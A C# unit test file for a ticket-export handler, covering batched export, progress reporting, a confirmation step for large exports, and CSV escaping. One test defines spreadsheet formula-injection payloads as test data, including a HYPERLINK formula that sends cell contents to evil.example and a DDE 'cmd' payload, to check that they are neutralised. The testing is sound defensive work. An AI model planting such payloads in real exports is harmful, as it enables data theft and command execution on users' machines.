using System.Text.Json.Nodes;
using McpCqrs.Querying;
using McpCqrs.Application.Customers.Commands.CreateCustomer;
using McpCqrs.Mcp.Context;
using McpCqrs.Application.Tickets.Commands.AssignTicket;
using McpCqrs.Application.Tickets.Commands.CreateTicket;
using McpCqrs.Application.Tickets.Commands.ExportTickets;
using McpCqrs.Domain.Common;
using McpCqrs.Domain.Tickets;
using Microsoft.Extensions.Time.Testing;
using ModelContextProtocol.Protocol;
using InputRequest = McpCqrs.Mcp.Context.InputRequest;

namespace McpCqrs.Tests.Unit.Application;

/// <summary>The long-running sample command: batches, progress, the confirmation above 100 tickets, CSV quoting.</summary>
public sealed class ExportTicketsTests : IAsyncLifetime
{
    private readonly FakeTimeProvider _clock = new(new DateTimeOffset(2026, 3, 1, 9, 0, 0, TimeSpan.Zero));
    private TestDatabase _database = null!;

    public async Task InitializeAsync()
    {
        _database = await TestDatabase.CreateAsync();
        await using var db = _database.NewContext();
        var customer = (await new CreateCustomerHandler(db, _clock).Handle(new CreateCustomer("Ada, \"the\" first", "ada@example.com"), default)).Id;
        for (var i = 1; i <= 120; i++)
        {
            await new CreateTicketHandler(db, _clock).Handle(new CreateTicket(customer, $"Ticket {i}", Priority: i % 10 == 0 ? TicketPriority.Urgent : TicketPriority.Normal), default);
            _clock.Advance(TimeSpan.FromMinutes(1));
        }
    }

    public async Task DisposeAsync() => await _database.DisposeAsync();

    private async Task<TicketExport> ExportAsync(ExportTickets command, ScriptedInput input, RecordedProgress progress)
    {
        await using var db = _database.NewContext();
        return await new ExportTicketsHandler(db, new GridifyQueryEngine(), progress, input).Handle(command, default);
    }

    [Fact]
    public async Task A_small_export_runs_in_batches_reports_progress_and_asks_nothing()
    {
        var input = new ScriptedInput(accept: false);
        var progress = new RecordedProgress();

        var export = await ExportAsync(new ExportTickets("priority=Urgent", "id"), input, progress);

        Assert.Equal(12, export.Count);
        var lines = export.Csv.TrimEnd('\n').Split('\n');
        Assert.Equal("id,customer,title,status,priority,assignee,tags,createdAt,updatedAt", lines[0]);
        Assert.Equal(13, lines.Length);
        Assert.StartsWith("10,\"Ada, \"\"the\"\" first\",Ticket 10,Open,Urgent,,,", lines[1]);
        Assert.Equal([(12d, 12d)], progress.Reports);
        Assert.Equal(0, input.Asked);
    }

    [Fact]
    public async Task A_large_export_is_confirmed_first_and_reports_each_batch()
    {
        var progress = new RecordedProgress();

        var export = await ExportAsync(new ExportTickets(), new ScriptedInput(accept: true), progress);

        Assert.Equal(120, export.Count);
        Assert.Equal(121, export.Csv.TrimEnd('\n').Split('\n').Length);
        Assert.Equal([(50d, 120d), (100d, 120d), (120d, 120d)], progress.Reports);
    }

    [Fact]
    public async Task A_declined_large_export_exports_nothing_with_a_domain_error()
    {
        var input = new ScriptedInput(accept: false);
        var progress = new RecordedProgress();

        var error = await Assert.ThrowsAsync<BusinessRuleViolationException>(async () => await ExportAsync(new ExportTickets(), input, progress));

        Assert.Equal("ticket.export_declined", error.Code);
        Assert.Equal(1, input.Asked);
        Assert.Empty(progress.Reports);
    }

    [Fact]
    public async Task Text_cells_that_a_spreadsheet_would_read_as_a_formula_are_exported_as_text()
    {
        string[] hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1,2"];
        int customer;
        await using (var db = _database.NewContext())
        {
            customer = (await new CreateCustomerHandler(db, _clock).Handle(new CreateCustomer("=cmd|' /C calc'!A0", "mallory@example.com"), default)).Id;
            foreach (var title in hostile)
            {
                var ticket = await new CreateTicketHandler(db, _clock).Handle(new CreateTicket(customer, title, Tags: ["-rm", "ok"]), default);
                await new AssignTicketHandler(db, _clock).Handle(new AssignTicket(ticket.Id, "@agent"), default);
            }
        }

        var export = await ExportAsync(new ExportTickets($"customerId={customer}", "id"), new ScriptedInput(accept: false), new RecordedProgress());

        var rows = ParseCsv(export.Csv).Skip(1).ToList();
        Assert.Equal(hostile.Length, rows.Count);
        for (var i = 0; i < hostile.Length; i++)
        {
            var row = rows[i];
            Assert.Equal(9, row.Count);
            Assert.Equal("'=cmd|' /C calc'!A0", row[1]);
            Assert.Equal("'" + hostile[i].Trim(), row[2]); // the domain trims titles; the field tests cover a leading tab or CR
            Assert.Equal("'@agent", row[5]);
            Assert.Equal("'-rm ok", row[6]);
            Assert.All(row, cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"cell {cell} starts a formula"));
        }
    }

    [Theory]
    [InlineData("Printer jam", "Printer jam")]
    [InlineData("1+1=2", "1+1=2")]
    [InlineData("a=b, c", "\"a=b, c\"")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+44 20 7946 0000", "'+44 20 7946 0000")]
    [InlineData("-", "'-")]
    [InlineData("@here", "'@here")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "\"'\rx\"")]
    [InlineData("=\"quoted\",x", "\"'=\"\"quoted\"\",x\"")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void A_field_is_neutralised_then_quoted(string? value, string expected) =>
        Assert.Equal(expected, ExportTicketsHandler.Field(value));

    /// <summary>RFC 4180 records: quoted fields may hold commas, doubled quotes and line breaks.</summary>
    private static List<List<string>> ParseCsv(string csv)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\n')
            {
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add(row);
                row = [];
            }
            else
            {
                cell.Append(c);
            }
        }

        return rows;
    }

    private sealed class RecordedProgress : IProgressReporter
    {
        public List<(double Progress, double Total)> Reports { get; } = [];

        public ValueTask ReportAsync(double progress, double? total = null, string? message = null, CancellationToken cancellationToken = default)
        {
            Reports.Add((progress, total ?? double.NaN));
            return ValueTask.CompletedTask;
        }
    }

    private sealed class ScriptedInput(bool accept) : IClientInput
    {
        public int Asked { get; private set; }

        public bool CanSample => false;

        public bool CanElicit => true;

        public bool CanListRoots => false;

        public string? State => null;

        public ValueTask<IReadOnlyDictionary<string, JsonNode?>> AskAsync(IReadOnlyDictionary<string, InputRequest> requests, string? state = null, CancellationToken cancellationToken = default)
        {
            Asked++;
            Assert.Equal(ExportTicketsHandler.ConfirmationKey, Assert.Single(requests).Key);
            var answer = new JsonObject { ["action"] = "accept", ["content"] = new JsonObject { ["confirm"] = accept } };
            return ValueTask.FromResult<IReadOnlyDictionary<string, JsonNode?>>(new Dictionary<string, JsonNode?> { [ExportTicketsHandler.ConfirmationKey] = answer });
        }

        public ValueTask<CreateMessageResult> SampleAsync(CreateMessageRequestParams request, CancellationToken cancellationToken = default) => throw new NotSupportedException();

        public ValueTask<ElicitResult> ElicitAsync(ElicitRequestParams request, CancellationToken cancellationToken = default) => throw new NotSupportedException();

        public ValueTask<ListRootsResult> ListRootsAsync(CancellationToken cancellationToken = default) => throw new NotSupportedException();
    }
}
